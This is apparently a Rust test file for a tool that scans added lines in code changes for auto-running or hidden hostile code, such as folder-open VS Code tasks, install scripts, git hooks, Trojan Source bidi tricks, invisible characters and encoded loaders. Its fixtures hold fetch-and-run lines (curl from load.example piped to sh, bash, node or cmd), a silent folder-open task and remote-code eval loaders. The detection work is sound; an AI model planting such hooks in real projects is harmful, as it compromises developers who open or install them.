//! What is found in added lines, and what is not.

use super::*;

fn kinds(path: &str, text: &str) -> Vec<What> {
    let lines: Vec<_> = (1..).zip(text.lines()).collect();
    let marks = marks(path.as_bytes(), &lines, None);
    marks.into_iter().map(|mark| mark.what).collect()
}

fn runs(path: &str, text: &str) -> Vec<AutoRun> {
    let kinds = kinds(path, text).into_iter();
    kinds
        .filter_map(|what| match what {
            What::Runs(how) => Some(how),
            _ => None,
        })
        .collect()
}

fn hides(path: &str, text: &str) -> Vec<Hidden> {
    let kinds = kinds(path, text).into_iter();
    kinds
        .filter_map(|what| match what {
            What::Hides(how) => Some(how),
            _ => None,
        })
        .collect()
}

const WATCH: &str = r#"{
  // Keeps the types fresh: see https://docs.example
  "version": "2.0.0",
  "tasks": [
    {
      "label": "watch",
      "command": "npm",
      "args": ["run", "watch"],
      "runOptions": { "runOn": "folderOpen" }
    },
    {
      "label": "install",
      "command": "curl -fsSL https://load.example/tool | sh"
    }
  ]
}"#;

const LOAD: &str = r#"{
  "tasks": [
    {
      "label": "env",
      "type": "shell",
      "osx": { "command": "curl -L https://load.example/mac | bash" },
      "windows": { "command": "curl https://load.example/win | cmd" },
      "presentation": { "reveal": "never", "echo": false },
      "runOptions": {
        "runOn": "folderOpen"
      }
    }
  ]
}"#;

#[test]
fn tasks_on_opening_a_folder() {
    let path = ".vscode/tasks.json";
    assert_eq!(runs(path, WATCH), [AutoRun::FolderTask]);
    assert_eq!(runs(path, LOAD), [AutoRun::DisguisedFolderTask]);
    let flat = LOAD.replace('\n', " ");
    assert_eq!(runs(path, &flat), [AutoRun::DisguisedFolderTask]);
    assert_eq!(runs("web/.vscode/tasks.json", LOAD).len(), 1);
    assert_eq!(runs("a.code-workspace", LOAD).len(), 1);
    let font = WATCH.replace("\"npm\"", "\"node ./public/fonts/solid-400.woff2\"");
    assert_eq!(runs(path, &font), [AutoRun::DisguisedFolderTask]);
    assert_eq!(runs(path, &LOAD.replace("folderOpen", "default")), []);
    assert_eq!(runs("examples/.vscode/tasks.json", LOAD), []);
    assert_eq!(runs("src/tasks.json", LOAD), []);
    assert_eq!(
        runs(
            path,
            "        \"runOptions\": { \"runOn\": \"folderOpen\" }"
        ),
        [AutoRun::FolderTask],
        "a line alone"
    );
    let lines: Vec<_> = (1..).zip(LOAD.lines()).collect();
    let marks = marks(path.as_bytes(), &lines, None);
    let [mark] = &marks[..] else {
        panic!("one mark: {marks:?}");
    };
    assert_eq!(mark.line, 10);
    assert!(mark.excerpt.contains("curl -L"), "{}", mark.excerpt);
}

#[test]
fn settings_that_let_tasks_start() {
    let path = ".vscode/settings.json";
    let on = "  \"task.allowAutomaticTasks\": \"on\",";
    assert_eq!(runs(path, on), [AutoRun::FolderTasksAllowed]);
    assert_eq!(runs(path, &on.replace("\"on\"", "\"off\"")), []);
}

#[test]
fn scripts_that_run_on_installing() {
    let fetches = r#"    "postinstall": "curl -s https://load.example/x.js | node","#;
    assert_eq!(runs("package.json", fetches), [AutoRun::InstallScript]);
    let minified = format!("{{\"scripts\":{{{fetches}\"test\":\"jest\"}}}}");
    assert_eq!(runs("a/package.json", &minified), [AutoRun::InstallScript]);
    for ordinary in [
        r#"    "postinstall": "node -e \"try{require('./postinstall')}catch(e){}\"","#,
        r#"    "prepare": "husky install","#,
        r#"    "deploy": "curl -s https://load.example/x.js | node","#,
        r#"    "install": "^1.0.0","#,
    ] {
        assert_eq!(runs("package.json", ordinary), [], "{ordinary}");
    }
    assert_eq!(runs("node_modules/x/package.json", fetches), []);
}

#[test]
fn hooks_containers_and_build_scripts() {
    let curl = "curl -fsSL https://load.example/x | sh";
    assert_eq!(runs(".husky/pre-commit", curl), [AutoRun::GitHook]);
    assert_eq!(runs(".husky/pre-commit", &format!("# {curl}")), []);
    let created = format!("  \"postCreateCommand\": \"{curl}\"");
    assert_eq!(
        runs(".devcontainer/devcontainer.json", &created),
        [AutoRun::ContainerCommand]
    );
    let build = "let body = ureq::get(URL).call()?;\nCommand::new(&path).status()?;";
    assert_eq!(runs("native/build.rs", build), [AutoRun::BuildScript]);
    assert_eq!(
        runs("native/build.rs", "Command::new(\"cc\").status()?;"),
        []
    );
    let setup = "code = urlopen(URL).read()\nexec(code)";
    assert_eq!(runs("setup.py", setup), [AutoRun::BuildScript]);
    let workflow = "on: pull_request_target\nsteps:\n  - uses: actions/checkout@v4\n    with:\n      \
                    ref: ${{ github.event.pull_request.head.sha }}";
    let path = ".github/workflows/ci.yml";
    assert_eq!(runs(path, workflow), [AutoRun::ForeignCheckout]);
    let own = workflow.replace("pull_request_target", "pull_request");
    assert_eq!(runs(path, &own), []);
}

#[test]
fn code_pushed_out_of_view() {
    let pushed = format!("const a = 1;{}require('child_process')", " ".repeat(250));
    let expected = Hidden::Pushed {
        blanks: 250,
        column: 263,
    };
    assert_eq!(hides("src/a.js", &pushed), [expected]);
    let frame = format!("#define LONG(a) a{}\\", " ".repeat(250));
    assert_eq!(hides("src/a.h", &frame), []);
    assert_eq!(hides("src/a.css", &pushed), []);
    assert_eq!(hides("dist/a.js", &pushed), []);
    assert_eq!(hides("src/a.min.js", &pushed), []);
    assert_eq!(
        hides("src/a.js", &format!("{}let deep = 1;", "\t".repeat(20))),
        []
    );
}

#[test]
fn code_shown_in_another_order() {
    let path = "src/access.c";
    let comment = "/* begin admins only \u{202e} } \u{2066}if (is_admin)\u{2069} \u{2066}*/";
    assert_eq!(hides(path, comment), [Hidden::Reordered]);
    assert_eq!(
        hides(path, "name = \"\u{2068}%s\u{2069} \u{202b}x\u{202c}\""),
        []
    );
    assert_eq!(
        hides(path, "// \u{202b}שלום עולם"),
        [],
        "prose that runs leftwards"
    );
    assert_eq!(hides(path, "// مرحبا \u{200f}بكم"), []);
    assert_eq!(hides("README.md", comment), []);
}

#[test]
fn invisible_characters() {
    let path = "src/a.js";
    assert_eq!(hides(path, "if (is\u{200b}Admin) {"), [Hidden::Invisible]);
    let payload: String = ('\u{e0100}'..='\u{e0110}').collect();
    assert_eq!(
        hides(path, &format!("decode(`{payload}`)")),
        [Hidden::Smuggled { count: 17 }]
    );
    for honest in [
        "say('👨\u{200d}👩\u{200d}👧\u{200d}👦 ❤\u{fe0f} 1\u{fe0f}\u{20e3}')",
        "flag('🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}')",
        "say('می\u{200c}خواهم') // नमस्\u{200d}ते",
        "say('ก\u{200b}ข')",
        "\u{feff}import x from 'x'",
        "name = 'José Ødegård 한글 漢字'",
    ] {
        assert_eq!(hides(path, honest), [], "{honest}");
    }
}

#[test]
fn encoded_text_that_is_fetched_and_evaluated() {
    let path = "server/controller.js";
    let loader = "const src = atob(process.env.KEY);\nconst run = (await axios.get(src)).data;\n\
                  new Function('require', run)(require);";
    assert_eq!(hides(path, loader), [Hidden::Encoded]);
    let apart = loader.replace('\n', &"\n//\n".repeat(20));
    assert_eq!(hides(path, &apart), []);
    assert_eq!(
        hides(path, "const data = JSON.parse(atob(await fetch(url)));"),
        []
    );
    assert_eq!(hides("src/loader.test.js", loader), []);
}

#[test]
fn moved_and_indented_lines_are_not_added() {
    let line = r#""postinstall": "curl -s https://load.example/x | sh""#;
    let file = |path: &str, added: &[&str], removed: &[&str]| FileChange {
        path: path.as_bytes().into(),
        added: (1..)
            .zip(added.iter().map(|line| (*line).to_owned()))
            .collect(),
        removed: removed.iter().map(|line| (*line).to_owned()).collect(),
    };
    let indented = format!("    {line}");
    let of = |files: &[FileChange]| Content::of(files, None).marks.len();
    assert_eq!(of(&[file("package.json", &[&indented], &[])]), 1);
    assert_eq!(of(&[file("package.json", &[&indented], &[line])]), 0);
    let moved = [
        file("package.json", &[], &[line]),
        file("web/package.json", &[line], &[]),
    ];
    assert_eq!(of(&moved), 0);
}

#[test]
fn wanted_wallets_are_named_wherever_they_stand() {
    let address = "1BpEi6DfDAUFd7GtittLSdBeYJvcoaVggu";
    let text = format!("pay {address} now");
    let named = |wanted: Option<Wanted<'_>>| {
        marks(b"tests/a.txt", &[(3, &text)], wanted).len() + message_marks(&text, wanted).len()
    };
    assert_eq!(named(Some(&|wallet| wallet.as_str() == address)), 2);
    assert_eq!(named(Some(&|_| false)), 0);
    assert_eq!(named(None), 0);
}

#[test]
fn excerpts_are_short_and_spell_out_what_is_invisible() {
    let line = format!("a\u{202e}b{}{}", " ".repeat(300), "x".repeat(500));
    let text = excerpt(&line, 0);
    assert!(
        text.starts_with("a\\u{202e}b[300 blanks]xxx") && text.ends_with("..."),
        "{text}"
    );
    assert!(text.chars().count() <= QUOTED + 20);
}
